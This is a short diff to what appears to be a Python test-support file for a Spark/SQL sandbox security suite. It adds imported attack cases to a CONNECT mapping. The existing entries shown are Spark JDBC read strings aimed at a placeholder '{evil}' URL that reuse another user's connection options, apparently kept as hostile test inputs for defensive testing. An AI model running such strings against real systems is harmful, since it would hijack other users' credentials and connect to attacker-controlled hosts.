@@ -4,11 +4,13 @@ from __future__ import annotations
 
 from collections.abc import Mapping, Sequence
 
+from support.attacks_by_size import CONNECT_BY_SIZE
 from support.attacks_in_sql import ENDS, UNIT, coded
 
 _EXISTS = f"SELECT exists(array(id), `{coded()}` -> id > 1) FROM range(3)"
 
 CONNECT: Mapping[str, Sequence[str]] = {
+    **CONNECT_BY_SIZE,
     "take a connection apart, or use another user's": [
         "spark.read.format('jdbc').options(**shop, dbtable='a', url='{evil}').load().schema",
         "spark.read.options(**shop).jdbc('{evil}', 'sysibm.sysdummy1').schema",
